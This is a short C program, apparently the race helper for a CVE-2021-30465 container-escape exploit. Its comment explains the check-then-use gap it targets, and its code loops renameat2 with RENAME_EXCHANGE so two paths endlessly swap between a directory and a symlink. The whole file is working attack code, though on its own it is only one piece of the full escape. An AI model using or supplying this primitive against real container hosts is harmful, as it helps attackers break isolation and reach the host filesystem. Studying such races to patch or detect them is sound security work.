/*
 * Exchanges two names without end: what is a directory at one moment is a
 * link at the next (CVE-2021-30465).  A runtime that checks a path first and
 * uses it afterwards checks the one and uses the other.
 */
#include <fcntl.h>
#include <stdio.h>

int main(int argc, char **argv)
{
	while (argc == 3)
		if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2],
			      RENAME_EXCHANGE) < 0)
			break;
	perror("swap");
	return 1;
}
